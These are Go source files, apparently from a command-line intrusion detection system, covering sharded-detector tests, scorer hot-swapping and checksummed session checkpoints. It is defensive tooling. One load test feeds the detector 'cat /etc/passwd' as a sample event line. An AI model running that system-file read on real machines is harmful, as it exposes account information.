	for _, v := range vs {
		if v.LineScore != 2 {
			t.Fatalf("post-swap score %v, want 2", v.LineScore)
		}
	}
}

func TestSwapScorerRejectsNonReplicable(t *testing.T) {
	scorers := []tuning.Scorer{&stubScorer{}, &stubScorer{}}
	sd, err := NewShardedDetector(scorers, DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	if err := sd.SwapScorer(&stubScorer{}, "v"); err == nil {
		t.Fatal("non-replicable scorer accepted for a 2-shard swap")
	}
	// The failed swap left the old scorers in place.
	if _, err := sd.Process([]Event{ev("a", 1, "x")}); err != nil {
		t.Fatalf("detector broken after failed swap: %v", err)
	}
}

// TestSwapScorerUnderLoad is the hot-reload acceptance test: a 4-shard
// detector processes a Replayer stream from several producers while the
// scorer is swapped repeatedly. Every event must be scored (zero drops),
// every returned score must be one of the known generations, and no
// Process call may observe two generations — the two-phase swap holds
// every shard's pipeline lock, so a multi-shard batch is entirely old or
// entirely new. Run under -race in CI.
func TestSwapScorerUnderLoad(t *testing.T) {
	ccfg := corpus.DefaultConfig()
	ccfg.TrainLines = 400
	ccfg.TestLines = 50
	train, _, err := corpus.Generate(ccfg)
	if err != nil {
		t.Fatal(err)
	}

	scorers := make([]tuning.Scorer, 4)
	for i := range scorers {
		scorers[i] = &genScorer{gen: 1}
	}
	sd, err := NewShardedDetector(scorers, DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	sd.SetScorerVersion("gen-1")

	const (
		producers = 3
		batches   = 60
		batchSize = 25
		swaps     = 40
	)
	var (
		scored   atomic.Int64
		mixed    atomic.Int64
		badScore atomic.Int64
		maxGen   atomic.Int64
	)
	maxGen.Store(1)

	var wg sync.WaitGroup
	for p := 0; p < producers; p++ {
		wg.Add(1)
		go func(p int) {
			defer wg.Done()
			// Each producer owns a disjoint user population (sharded
			// detectors require per-user time order, which concurrent
			// producers sharing users would violate).
			rep := corpus.NewReplayer(train, true)
			for b := 0; b < batches; b++ {
				samples := rep.NextBatch(batchSize)
				events := make([]Event, len(samples))
				for i, s := range samples {
					events[i] = Event{
						User: fmt.Sprintf("p%d-%s", p, s.User),
						Time: s.Time,
						Line: s.Line,
					}
				}
				vs, err := sd.Process(events)
				if err != nil {
					t.Errorf("producer %d batch %d: %v", p, b, err)
					return
				}
				scored.Add(int64(len(vs)))
				first := vs[0].LineScore
				hi := maxGen.Load()
				for _, v := range vs {
					if v.LineScore != first {
						mixed.Add(1)
					}
					if v.LineScore < 1 || v.LineScore > float64(hi) {
						badScore.Add(1)
					}
				}
			}
		}(p)
	}

	wg.Add(1)
	go func() {
		defer wg.Done()
		for gen := int64(2); gen < 2+swaps; gen++ {
			// Raise the ceiling before the swap so a racing reader never
			// sees a score above the advertised max generation.
			maxGen.Store(gen)
			if err := sd.SwapScorer(&genScorer{gen: float64(gen)}, fmt.Sprintf("gen-%d", gen)); err != nil {
				t.Errorf("swap to gen %d: %v", gen, err)
				return
			}
		}
	}()
	wg.Wait()

	if want := int64(producers * batches * batchSize); scored.Load() != want {
		t.Fatalf("scored %d events, want %d (events dropped)", scored.Load(), want)
	}
	if n := mixed.Load(); n != 0 {
		t.Fatalf("%d events scored in mixed-generation batches", n)
	}
	if n := badScore.Load(); n != 0 {
		t.Fatalf("%d events scored outside the live generation range", n)
	}
	if got, want := sd.ScorerVersion(), fmt.Sprintf("gen-%d", int64(1+swaps)); got != want {
		t.Fatalf("final version %q, want %q", got, want)
	}
	if got := sd.Stats().Events; got != int64(producers*batches*batchSize) {
		t.Fatalf("stats count %d events", got)
	}
}

// TestServiceSwapUnderLoad exercises the same invariants through the
// asynchronous Service front: queued requests survive a swap and every
// verdict carries a live generation score.
func TestServiceSwapUnderLoad(t *testing.T) {
	scorers := make([]tuning.Scorer, 2)
	for i := range scorers {
		scorers[i] = &genScorer{gen: 1}
	}
	sd, err := NewShardedDetector(scorers, DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	svc := NewShardedService(sd, ServiceConfig{QueueRequests: 4, BatchEvents: 32})

	const submits = 120
	var wg sync.WaitGroup
	var scored atomic.Int64
	for p := 0; p < 2; p++ {
		wg.Add(1)
		go func(p int) {
			defer wg.Done()
			for i := 0; i < submits; i++ {
				events := []Event{
					ev(fmt.Sprintf("p%d-a", p), int64(i), "ls"),
					ev(fmt.Sprintf("p%d-b", p), int64(i), "cat /etc/passwd"),
				}
				vs, err := svc.Submit(events)
				if err != nil {
					t.Errorf("submit: %v", err)
					return
				}
				for _, v := range vs {
					if v.LineScore < 1 {
						t.Errorf("impossible score %v", v.LineScore)
					}
				}
				scored.Add(int64(len(vs)))
			}
		}(p)
	}
	// A stats poller races the swaps: Stats' per-shard cache probe reads
	// the scorer field SwapScorer replaces, which -race must see as
	// synchronized.
	statsDone := make(chan struct{})
	go func() {
		defer close(statsDone)
		for i := 0; i < 200; i++ {
			svc.Stats()
		}
	}()
	for gen := 2; gen <= 10; gen++ {
		if err := svc.SwapScorer(&genScorer{gen: float64(gen)}, fmt.Sprintf("v%d", gen)); err != nil {
			t.Fatal(err)
		}
	}
	wg.Wait()
	<-statsDone
	svc.Close()
	if scored.Load() != 2*2*submits {
		t.Fatalf("scored %d, want %d", scored.Load(), 2*2*submits)
	}
	if got := svc.ScorerVersion(); got != "v10" {
		t.Fatalf("final service version %q", got)
	}
}
