package stream

import (
	"errors"
	"fmt"
	"sync"

	"clmids/internal/tuning"
)

// ShardedDetector partitions the streaming detector across N shards keyed
// by hash(user) % N. Each shard is a full Detector — its own session map,
// its own stats, its own scorer — so shards score concurrently while every
// event of one user lands on one shard in arrival order. Per-user session
// verdicts are therefore byte-identical to an unsharded Detector on the
// same stream (TestShardedEquivalence pins this); only the within-call
// scoring dedup changes, because dedup is per shard.
//
// Scorers are typically replicas of one built scorer (core.ReplicateScorer
// / tuning.Replicas): they share the frozen backbone weights and every
// fitted artifact, replicating only the engine's scratch pool and LRU
// cache, so N shards cost N×(scratch + cache rows), never N× the model.
type ShardedDetector struct {
	dets []*Detector
}

// NewShardedDetector builds one shard per scorer, all with the same
// configuration. len(scorers) == 1 degenerates to an unsharded detector
// behind the same API. Scorers must not share mutable state across shards
// (replicas from tuning.Replicas satisfy this by construction).
func NewShardedDetector(scorers []tuning.Scorer, cfg Config) (*ShardedDetector, error) {
	if len(scorers) == 0 {
		return nil, errors.New("stream: sharded detector needs at least one scorer")
	}
	dets := make([]*Detector, len(scorers))
	for i, sc := range scorers {
		if sc == nil {
			return nil, fmt.Errorf("stream: shard %d scorer is nil", i)
		}
		dets[i] = NewDetector(sc, cfg)
	}
	return &ShardedDetector{dets: dets}, nil
}

// newShardedFromDetectors wraps pre-built shards (Service's constructor
// path for the single-shard NewService compatibility case).
func newShardedFromDetectors(dets []*Detector) *ShardedDetector {
	return &ShardedDetector{dets: dets}
}

// shardOf routes a user to a shard: FNV-1a over the user key, mod N. The
// same function routes Service.Submit requests, so queueing and processing
// agree on ownership. The hash is inlined (not hash/fnv) because this runs
// once per event on the ingest hot path and must not allocate.
func shardOf(user string, n int) int {
	if n <= 1 {
		return 0
	}
	h := uint32(2166136261) // FNV-1a offset basis
	for i := 0; i < len(user); i++ {
		h ^= uint32(user[i])
		h *= 16777619 // FNV prime
	}
	return int(h % uint32(n))
}

// partitionEvents splits events across n > 1 shards preserving relative
// order, returning per-shard event slices and each event's original
// position so verdicts can be scattered back into input order. Callers
// fast-path n == 1 (no partition, no scatter).
func partitionEvents(events []Event, n int) (parts [][]Event, pos [][]int) {
	parts = make([][]Event, n)
	pos = make([][]int, n)
	for i, ev := range events {
		sh := shardOf(ev.User, n)
		parts[sh] = append(parts[sh], ev)
		pos[sh] = append(pos[sh], i)
	}
	return parts, pos
}

// Shards returns the shard count.
func (d *ShardedDetector) Shards() int { return len(d.dets) }

// Shard exposes one shard's detector (tests and EvictIdle fan-out).
func (d *ShardedDetector) Shard(i int) *Detector { return d.dets[i] }

// Config returns the shared resolved configuration.
func (d *ShardedDetector) Config() Config { return d.dets[0].Config() }

// scatter writes one shard's verdicts back into their original input
// positions.
func scatter(out []Verdict, pos []int, vs []Verdict) {
	for k, v := range vs {
		out[pos[k]] = v
	}
}

// Process routes events to their shards, runs the shards concurrently,
// and returns verdicts in input order. Events must be time-ordered per
// user, exactly as for Detector.Process; distinct users interleave
// freely. Safe for concurrent use: shard pipeline mutexes are acquired in
// ascending shard order (the cheap sessionize phase), so two overlapping
// multi-shard calls serialize instead of deadlocking, while the expensive
// scoring phase still runs on every shard in parallel.
//
// Failure is all-or-nothing: no shard commits until every involved shard
// has scored (two-phase commit over Detector's begin/score/commit/abort),
// so one shard's scoring error rolls the whole batch back on every shard
// — exactly the unsharded retry-safety contract — and Process returns a
// joined error with no verdicts.
func (d *ShardedDetector) Process(events []Event) ([]Verdict, error) {
	if len(events) == 0 {
		return nil, nil
	}
	n := len(d.dets)
	if n == 1 {
		return d.dets[0].Process(events)
	}
	parts, pos := partitionEvents(events, n)

	// Phase 1a, ascending shard order: sessionize, taking each shard's
	// pipeline lock. The fixed order is the deadlock discipline. The
	// deferred sweep aborts whatever has begun but not finished — the
	// scoring-error path, and panics on this goroutine (begin of a later
	// shard, commit), so shard pipelines never stay wedged.
	batches := make([]*procBatch, n)
	defer func() {
		for _, b := range batches {
			if b != nil && !b.finished {
				b.abort()
			}
		}
	}()
	for sh := 0; sh < n; sh++ {
		if len(parts[sh]) > 0 {
			batches[sh] = d.dets[sh].begin(parts[sh])
		}
	}

	// Phase 1b, in parallel per shard: score, commit nothing.
	errs := make([]error, n)
	var wg sync.WaitGroup
	for sh, b := range batches {
		if b == nil {
			continue
		}
		wg.Add(1)
		go func(sh int, b *procBatch) {
			defer wg.Done()
			if err := b.score(); err != nil {
				errs[sh] = fmt.Errorf("shard %d: %w", sh, err)
			}
		}(sh, b)
	}
	wg.Wait()

	// Phase 2: any failure aborts every shard (the deferred sweep);
	// otherwise all commit.
	if err := errors.Join(errs...); err != nil {
		return nil, err
	}
	out := make([]Verdict, len(events))
	for sh, b := range batches {
		if b != nil {
			scatter(out, pos[sh], b.commit())
		}
	}
	return out, nil
}

// SwapScorer hot-reloads the detector: it replicates the new scorer once
// per shard (tuning.Replicas — shared frozen artifacts, per-shard engine),
// then swaps every shard atomically between batches. The swap is
// two-phase, mirroring Process: phase 1 acquires every shard's pipeline
// mutex in ascending order (the same deadlock discipline Process uses), so
// it waits for every in-flight batch to commit and blocks new ones; phase
// 2 installs one replica per shard and stamps the version, then releases.
// No batch ever scores on a mix of old and new scorers — not even a
// multi-shard ShardedDetector.Process, whose shards all begin before any
// scores — and nothing is dropped: callers blocked on the pipeline mutexes
// simply proceed on the new scorer.
//
// Replication happens before any lock is taken, so the scoring pause is
// the pointer swap, not the artifact load — swap cost is off the hot path.
func (d *ShardedDetector) SwapScorer(s tuning.Scorer, version string) error {
	scorers, err := tuning.Replicas(s, len(d.dets))
	if err != nil {
		return err
	}
	for _, det := range d.dets {
		det.procMu.Lock()
	}
	for i, det := range d.dets {
		det.mu.Lock() // Stats' cache probe reads the scorer under mu
		det.scorer = scorers[i]
		det.version = version
		det.mu.Unlock()
	}
	for _, det := range d.dets {
		det.procMu.Unlock()
	}
	return nil
}

// SetScorerVersion stamps the artifact version on every shard without
// touching the scorers — the cold-start path, where the shards were
// constructed from replicas of an already-loaded bundle.
func (d *ShardedDetector) SetScorerVersion(version string) {
	for _, det := range d.dets {
		det.mu.Lock()
		det.version = version
		det.mu.Unlock()
	}
}

// ScorerVersion returns shard 0's artifact version; construction and
// SwapScorer keep every shard on the same one.
func (d *ShardedDetector) ScorerVersion() string { return d.dets[0].ScorerVersion() }

// SetModality stamps the served log modality on every shard. SwapScorer
// deliberately leaves it untouched: serving processes reject
// modality-mismatched bundles before swapping, so the stamp outlives
// reloads.
func (d *ShardedDetector) SetModality(m string) {
	for _, det := range d.dets {
		det.SetModality(m)
	}
}

// Modality returns shard 0's stamped log modality (every shard carries the
// same one).
func (d *ShardedDetector) Modality() string { return d.dets[0].Modality() }

// Stats returns counters summed across shards. ScoredInputs is the sum of
// per-shard dedup counts, so it can exceed the unsharded figure when the
// same line reaches users on different shards. ScorerVersion is shard 0's
// (every shard carries the same one).
func (d *ShardedDetector) Stats() Stats {
	total := Stats{ScorerVersion: d.ScorerVersion(), Modality: d.Modality()}
	for _, det := range d.dets {
		s := det.Stats()
		total.Events += s.Events
		total.ScoredInputs += s.ScoredInputs
		total.LineAlerts += s.LineAlerts
		total.SessionAlerts += s.SessionAlerts
		total.SessionsStarted += s.SessionsStarted
		total.SessionsIdleClosed += s.SessionsIdleClosed
		total.SessionsEvicted += s.SessionsEvicted
		total.ActiveSessions += s.ActiveSessions
		total.ScorerPanics += s.ScorerPanics
		total.QuarantinedInputs += s.QuarantinedInputs
		total.QuarantineHits += s.QuarantineHits
		if s.Cascade != nil {
			if total.Cascade == nil {
				total.Cascade = &tuning.CascadeStats{}
			}
			total.Cascade.Cleared += s.Cascade.Cleared
			total.Cascade.Triaged += s.Cascade.Triaged
			total.Cascade.Escalated += s.Cascade.Escalated
		}
		for _, sample := range s.QuarantineSample {
			if len(total.QuarantineSample) < quarSampleCap {
				total.QuarantineSample = append(total.QuarantineSample, sample)
			}
		}
	}
	return total
}

// ShardStats returns each shard's own counter snapshot, in shard order —
// the load-skew view (hot users hashing to one shard show up here).
func (d *ShardedDetector) ShardStats() []Stats {
	out := make([]Stats, len(d.dets))
	for i, det := range d.dets {
		out[i] = det.Stats()
	}
	return out
}

// EvictIdle fans the idle-session sweep out across every shard and returns
// the total evicted.
func (d *ShardedDetector) EvictIdle(now int64) int {
	n := 0
	for _, det := range d.dets {
		n += det.EvictIdle(now)
	}
	return n
}

// HighWater returns the latest event time seen across all shards.
func (d *ShardedDetector) HighWater() int64 {
	var hw int64
	for _, det := range d.dets {
		if t := det.HighWater(); t > hw {
			hw = t
		}
	}
	return hw
}
