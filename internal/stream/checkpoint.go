package stream

// Crash-safe session checkpoints. A restarted detector loses every per-user
// sliding window — and with them exactly the multi-line attack chains the
// session aggregator exists to catch. SaveSessions serializes the session
// state deterministically; RestoreSessions rebuilds it, so a restart (or a
// fleet handoff) resumes mid-chain sessions and trips the same alarms an
// uninterrupted run would.
//
// The format mirrors the PR 4 bundle discipline: a self-describing header
// carrying a format string and a sha256 of the payload, verified before any
// decoding, so a torn or tampered checkpoint fails with a named checksum
// error instead of a decoder panic. Sessions are stored per user (sorted),
// not per shard: restoring re-routes each user through the shard hash, so a
// checkpoint taken at N shards restores into M shards — the Save/Restore
// groundwork a multi-node fleet's session handoff builds on.

import (
	"bufio"
	"bytes"
	"crypto/sha256"
	"encoding/gob"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"sort"
)

// CheckpointFormat identifies the session-checkpoint layout;
// RestoreSessions rejects headers written by a different format.
const CheckpointFormat = "clmids-sessions v1"

// ErrCheckpointCorrupt flags a checkpoint whose header, checksum, or
// payload failed verification — callers distinguish "start fresh" from
// configuration errors with errors.Is.
var ErrCheckpointCorrupt = errors.New("stream: checkpoint corrupt")

// entryRecord is one persisted window line (context score included, so a
// restored session aggregate resumes exactly where it left off).
type entryRecord struct {
	Time  int64
	Line  string
	Score float64
}

// sessionRecord is one user's persisted sliding window.
type sessionRecord struct {
	User    string
	Last    int64
	Entries []entryRecord
}

// checkpointHeader is the JSON first line of a checkpoint stream.
type checkpointHeader struct {
	Format string `json:"format"`
	// Users is the session count in the payload (decode sanity check).
	Users int `json:"users"`
	// HighWater is the latest event time seen, restored so EvictIdle
	// sweeps resume on the stream's clock.
	HighWater int64 `json:"high_water"`
	// Config is the resolved detector configuration at save time; restore
	// rejects a detector whose session semantics differ (a window replayed
	// under different sessionization would silently change verdicts).
	Config Config `json:"config"`
	// Stats carries the aggregate counters so /stats survives a restart.
	Stats Stats `json:"stats"`
	// PayloadSHA256 is the hex sha256 of the gob payload that follows.
	PayloadSHA256 string `json:"payload_sha256"`
}

// writeCheckpoint serializes records (already sorted by user) with header +
// checksummed payload. Determinism: same sessions, same bytes — gob over
// sorted slices has no map-order dependence, so checkpoint diffs mean state
// diffs.
func writeCheckpoint(w io.Writer, cfg Config, recs []sessionRecord, hw int64, st Stats) error {
	var payload bytes.Buffer
	if err := gob.NewEncoder(&payload).Encode(recs); err != nil {
		return fmt.Errorf("stream: encoding checkpoint payload: %w", err)
	}
	sum := sha256.Sum256(payload.Bytes())
	st.ActiveSessions = len(recs) // snapshot-time truth, recomputed on restore
	hdr, err := json.Marshal(checkpointHeader{
		Format:        CheckpointFormat,
		Users:         len(recs),
		HighWater:     hw,
		Config:        cfg,
		Stats:         st,
		PayloadSHA256: hex.EncodeToString(sum[:]),
	})
	if err != nil {
		return fmt.Errorf("stream: encoding checkpoint header: %w", err)
	}
	if _, err := w.Write(append(hdr, '\n')); err != nil {
		return fmt.Errorf("stream: writing checkpoint header: %w", err)
	}
	if _, err := w.Write(payload.Bytes()); err != nil {
		return fmt.Errorf("stream: writing checkpoint payload: %w", err)
	}
	return nil
}

// readCheckpoint parses and verifies a checkpoint stream: format first,
// then the payload checksum, and only then the decode — a torn write never
// reaches gob.
func readCheckpoint(r io.Reader) (checkpointHeader, []sessionRecord, error) {
	var hdr checkpointHeader
	br := bufio.NewReader(r)
	line, err := br.ReadBytes('\n')
	if err != nil {
		return hdr, nil, fmt.Errorf("%w: reading header: %v", ErrCheckpointCorrupt, err)
	}
	if err := json.Unmarshal(line, &hdr); err != nil {
		return hdr, nil, fmt.Errorf("%w: parsing header: %v", ErrCheckpointCorrupt, err)
	}
	if hdr.Format != CheckpointFormat {
		return hdr, nil, fmt.Errorf("stream: unknown checkpoint format %q (this build reads %q)",
			hdr.Format, CheckpointFormat)
	}
	payload, err := io.ReadAll(br)
	if err != nil {
		return hdr, nil, fmt.Errorf("%w: reading payload: %v", ErrCheckpointCorrupt, err)
	}
	sum := sha256.Sum256(payload)
	if got := hex.EncodeToString(sum[:]); got != hdr.PayloadSHA256 {
		return hdr, nil, fmt.Errorf("%w: payload checksum mismatch (header %.12s, payload %.12s)",
			ErrCheckpointCorrupt, hdr.PayloadSHA256, got)
	}
	var recs []sessionRecord
	if err := gob.NewDecoder(bytes.NewReader(payload)).Decode(&recs); err != nil {
		return hdr, nil, fmt.Errorf("%w: decoding payload: %v", ErrCheckpointCorrupt, err)
	}
	if len(recs) != hdr.Users {
		return hdr, nil, fmt.Errorf("%w: payload holds %d sessions, header says %d",
			ErrCheckpointCorrupt, len(recs), hdr.Users)
	}
	return hdr, recs, nil
}

// sessionsCompatible reports whether two resolved configs agree on every
// field that shapes session state and its interpretation — windowing,
// context building, and aggregation. Alert thresholds may differ between
// runs (retuning thresholds across a restart is normal operations).
func sessionsCompatible(a, b Config) error {
	type key struct {
		cw  int
		gap int64
		it  int64
		max int
		agg Aggregation
		dec float64
	}
	ka := key{a.ContextWindow, a.ContextGap, a.IdleTimeout, a.MaxSessionLines, a.Aggregation, a.Decay}
	kb := key{b.ContextWindow, b.ContextGap, b.IdleTimeout, b.MaxSessionLines, b.Aggregation, b.Decay}
	if ka != kb {
		return fmt.Errorf("stream: checkpoint session config %+v incompatible with detector %+v", ka, kb)
	}
	return nil
}

// sessionRecords snapshots the detector's live sessions, sorted by user.
func (d *Detector) sessionRecords() []sessionRecord {
	d.mu.Lock()
	recs := make([]sessionRecord, 0, len(d.sessions))
	for user, sess := range d.sessions {
		r := sessionRecord{User: user, Last: sess.last, Entries: make([]entryRecord, len(sess.entries))}
		for i, e := range sess.entries {
			r.Entries[i] = entryRecord{Time: e.time, Line: e.line, Score: e.score}
		}
		recs = append(recs, r)
	}
	d.mu.Unlock()
	sort.Slice(recs, func(i, j int) bool { return recs[i].User < recs[j].User })
	return recs
}

// installRecords replaces the detector's session map with recs and folds
// the checkpointed counters into stats (st nil skips counters — the
// sharded restore folds the aggregate into one shard). It takes the
// pipeline mutex, so a concurrent Process never sees a half-installed map.
func (d *Detector) installRecords(recs []sessionRecord, hw int64, st *Stats) {
	sessions := make(map[string]*session, len(recs))
	for _, r := range recs {
		sess := &session{last: r.Last, entries: make([]entry, len(r.Entries))}
		for i, e := range r.Entries {
			sess.entries[i] = entry{time: e.Time, line: e.Line, score: e.Score}
		}
		// A checkpoint from a same-config detector never exceeds the cap,
		// but trim defensively: the invariant belongs to this process.
		if over := len(sess.entries) - d.cfg.MaxSessionLines; over > 0 {
			sess.entries = sess.entries[over:]
		}
		sessions[r.User] = sess
	}
	d.procMu.Lock()
	d.mu.Lock()
	d.sessions = sessions
	if hw > d.highWater {
		d.highWater = hw
	}
	if st != nil {
		d.stats.Events += st.Events
		d.stats.ScoredInputs += st.ScoredInputs
		d.stats.LineAlerts += st.LineAlerts
		d.stats.SessionAlerts += st.SessionAlerts
		d.stats.SessionsStarted += st.SessionsStarted
		d.stats.SessionsIdleClosed += st.SessionsIdleClosed
		d.stats.SessionsEvicted += st.SessionsEvicted
		d.stats.ScorerPanics += st.ScorerPanics
		d.stats.QuarantinedInputs += st.QuarantinedInputs
		d.stats.QuarantineHits += st.QuarantineHits
	}
	d.mu.Unlock()
	d.procMu.Unlock()
}

// SaveSessions writes a checkpoint of the detector's per-user session
// windows, counters, and high-water mark to w. Safe during serving: the
// snapshot is taken under the state lock (consistent as of one instant) and
// serialization happens outside it.
func (d *Detector) SaveSessions(w io.Writer) error {
	recs := d.sessionRecords()
	d.mu.Lock()
	st := d.stats
	hw := d.highWater
	d.mu.Unlock()
	return writeCheckpoint(w, d.cfg, recs, hw, st)
}

// RestoreSessions replaces the detector's session state with a checkpoint
// written by SaveSessions (or ShardedDetector.SaveSessions), verifying the
// format and payload checksum first and rejecting checkpoints whose session
// semantics differ from the detector's. Meant for startup, before traffic;
// it also folds the checkpointed counters into Stats so observability
// survives the restart.
func (d *Detector) RestoreSessions(r io.Reader) error {
	hdr, recs, err := readCheckpoint(r)
	if err != nil {
		return err
	}
	if err := sessionsCompatible(hdr.Config.withDefaults(), d.cfg); err != nil {
		return err
	}
	d.installRecords(recs, hdr.HighWater, &hdr.Stats)
	return nil
}

// SaveSessions checkpoints every shard's sessions as one user-keyed
// stream: shard snapshots are merged and sorted, so the artifact is
// independent of the shard count that produced it. Each shard is
// snapshotted under its own lock — crash-consistent per user (a user lives
// on exactly one shard), not globally instantaneous.
func (d *ShardedDetector) SaveSessions(w io.Writer) error {
	var recs []sessionRecord
	for _, det := range d.dets {
		recs = append(recs, det.sessionRecords()...)
	}
	sort.Slice(recs, func(i, j int) bool { return recs[i].User < recs[j].User })
	return writeCheckpoint(w, d.Config(), recs, d.HighWater(), d.Stats())
}

// RestoreSessions restores a checkpoint into the sharded detector,
// re-routing every user through the shard hash — the shard count may
// differ from the one that saved it. The aggregate counters are folded
// into shard 0 (per-shard counter attribution does not survive a reshard;
// the service-level aggregate does).
func (d *ShardedDetector) RestoreSessions(r io.Reader) error {
	hdr, recs, err := readCheckpoint(r)
	if err != nil {
		return err
	}
	if err := sessionsCompatible(hdr.Config.withDefaults(), d.Config()); err != nil {
		return err
	}
	n := len(d.dets)
	parts := make([][]sessionRecord, n)
	for _, rec := range recs {
		sh := shardOf(rec.User, n)
		parts[sh] = append(parts[sh], rec)
	}
	for i, det := range d.dets {
		st := &hdr.Stats
		if i != 0 {
			st = nil
		}
		det.installRecords(parts[i], hdr.HighWater, st)
	}
	return nil
}
