package stream

// Crash-safe session checkpoints and per-user session handoff. A restarted
// detector loses every per-user sliding window — and with them exactly the
// multi-line attack chains the session aggregator exists to catch.
// SaveSessions serializes the session state deterministically;
// RestoreSessions rebuilds it, so a restart (or a fleet handoff) resumes
// mid-chain sessions and trips the same alarms an uninterrupted run would.
// ExportSessions/ImportSessions are the per-user refinement the fleet
// router builds on: export a chosen subset of users (a replica being
// drained, the users rehashed away by a ring change), import them into
// another replica without touching anyone else's window.
//
// The format mirrors the PR 4 bundle discipline: a self-describing header
// carrying a format string and a sha256 of the payload, verified before any
// decoding, so a torn or tampered checkpoint fails with a named checksum
// error instead of a decoder panic. Sessions are stored per user (sorted),
// not per shard: restoring re-routes each user through the shard hash, so a
// checkpoint taken at N shards restores into M shards — and an export taken
// on one replica imports into any other, whatever its shard count.

import (
	"bufio"
	"bytes"
	"crypto/sha256"
	"encoding/gob"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"sort"
)

// CheckpointFormat identifies the session-checkpoint layout;
// RestoreSessions rejects headers written by a different format.
const CheckpointFormat = "clmids-sessions v1"

// ErrCheckpointCorrupt flags a checkpoint whose header, checksum, or
// payload failed verification — callers distinguish "start fresh" from
// configuration errors with errors.Is.
var ErrCheckpointCorrupt = errors.New("stream: checkpoint corrupt")

// ErrCheckpointIncompatible flags a structurally valid checkpoint that must
// not be restored here: its session semantics (windowing, context,
// aggregation) or its log modality differ from the receiving detector's,
// so replaying it would silently mis-score. Callers branch with errors.Is —
// the HTTP import surface maps it to 409 Conflict, startup logs it and
// starts fresh.
var ErrCheckpointIncompatible = errors.New("stream: checkpoint incompatible")

// WindowEntry is one persisted window line (context score included, so a
// restored session aggregate resumes exactly where it left off). Exported
// so the fleet router can rebuild a dead replica's windows from the verdict
// stream it has already seen (Verdict carries Time, Line, ContextScore).
type WindowEntry struct {
	// Time is the event time of the line, in Unix seconds.
	Time int64
	// Line is the raw command line.
	Line string
	// Score is the committed context score of the line — what entered the
	// session aggregate.
	Score float64
}

// SessionWindow is one user's persisted sliding window.
type SessionWindow struct {
	// User keys the session.
	User string
	// Last is the time of the user's most recent event.
	Last int64
	// Entries is the retained window, oldest first. An imported
	// SessionWindow with no entries removes the user's session — the
	// clear-on-handoff case.
	Entries []WindowEntry
}

// checkpointHeader is the JSON first line of a checkpoint stream.
type checkpointHeader struct {
	Format string `json:"format"`
	// Users is the session count in the payload (decode sanity check).
	Users int `json:"users"`
	// HighWater is the latest event time seen, restored so EvictIdle
	// sweeps resume on the stream's clock.
	HighWater int64 `json:"high_water"`
	// Config is the resolved detector configuration at save time; restore
	// rejects a detector whose session semantics differ (a window replayed
	// under different sessionization would silently change verdicts).
	Config Config `json:"config"`
	// Modality names the log modality the saving detector served; restore
	// rejects a detector stamped with a different one (a PowerShell window
	// replayed into a flows detector would context-join garbage). Empty on
	// either side skips the check (pre-modality checkpoints stay loadable).
	Modality string `json:"modality,omitempty"`
	// Stats carries the aggregate counters so /stats survives a restart.
	Stats Stats `json:"stats"`
	// PayloadSHA256 is the hex sha256 of the gob payload that follows.
	PayloadSHA256 string `json:"payload_sha256"`
}

// writeCheckpoint serializes records (already sorted by user) with header +
// checksummed payload. Determinism: same sessions, same bytes — gob over
// sorted slices has no map-order dependence, so checkpoint diffs mean state
// diffs.
func writeCheckpoint(w io.Writer, cfg Config, modality string, recs []SessionWindow, hw int64, st Stats) error {
	var payload bytes.Buffer
	if err := gob.NewEncoder(&payload).Encode(recs); err != nil {
		return fmt.Errorf("stream: encoding checkpoint payload: %w", err)
	}
	sum := sha256.Sum256(payload.Bytes())
	st.ActiveSessions = len(recs) // snapshot-time truth, recomputed on restore
	hdr, err := json.Marshal(checkpointHeader{
		Format:        CheckpointFormat,
		Users:         len(recs),
		HighWater:     hw,
		Config:        cfg,
		Modality:      modality,
		Stats:         st,
		PayloadSHA256: hex.EncodeToString(sum[:]),
	})
	if err != nil {
		return fmt.Errorf("stream: encoding checkpoint header: %w", err)
	}
	if _, err := w.Write(append(hdr, '\n')); err != nil {
		return fmt.Errorf("stream: writing checkpoint header: %w", err)
	}
	if _, err := w.Write(payload.Bytes()); err != nil {
		return fmt.Errorf("stream: writing checkpoint payload: %w", err)
	}
	return nil
}

// WriteSessionsCheckpoint writes windows (any order; sorted here) as a
// checkpoint stream that RestoreSessions and ImportSessions accept. This is
// the fleet router's session-failover escape hatch: when a replica dies
// without exporting, the router — which saw every committed verdict —
// reconstructs the affected users' windows from those verdicts and imports
// them into the failover replica. cfg must be the serving session config
// and modality the served modality, or the import is rejected.
func WriteSessionsCheckpoint(w io.Writer, cfg Config, modality string, windows []SessionWindow, highWater int64) error {
	recs := append([]SessionWindow(nil), windows...)
	sort.Slice(recs, func(i, j int) bool { return recs[i].User < recs[j].User })
	return writeCheckpoint(w, cfg.withDefaults(), modality, recs, highWater, Stats{})
}

// readCheckpoint parses and verifies a checkpoint stream: format first,
// then the payload checksum, and only then the decode — a torn write never
// reaches gob.
func readCheckpoint(r io.Reader) (checkpointHeader, []SessionWindow, error) {
	var hdr checkpointHeader
	br := bufio.NewReader(r)
	line, err := br.ReadBytes('\n')
	if err != nil {
		return hdr, nil, fmt.Errorf("%w: reading header: %v", ErrCheckpointCorrupt, err)
	}
	if err := json.Unmarshal(line, &hdr); err != nil {
		return hdr, nil, fmt.Errorf("%w: parsing header: %v", ErrCheckpointCorrupt, err)
	}
	if hdr.Format != CheckpointFormat {
		return hdr, nil, fmt.Errorf("stream: unknown checkpoint format %q (this build reads %q)",
			hdr.Format, CheckpointFormat)
	}
	payload, err := io.ReadAll(br)
	if err != nil {
		return hdr, nil, fmt.Errorf("%w: reading payload: %v", ErrCheckpointCorrupt, err)
	}
	sum := sha256.Sum256(payload)
	if got := hex.EncodeToString(sum[:]); got != hdr.PayloadSHA256 {
		return hdr, nil, fmt.Errorf("%w: payload checksum mismatch (header %.12s, payload %.12s)",
			ErrCheckpointCorrupt, hdr.PayloadSHA256, got)
	}
	var recs []SessionWindow
	if err := gob.NewDecoder(bytes.NewReader(payload)).Decode(&recs); err != nil {
		return hdr, nil, fmt.Errorf("%w: decoding payload: %v", ErrCheckpointCorrupt, err)
	}
	if len(recs) != hdr.Users {
		return hdr, nil, fmt.Errorf("%w: payload holds %d sessions, header says %d",
			ErrCheckpointCorrupt, len(recs), hdr.Users)
	}
	return hdr, recs, nil
}

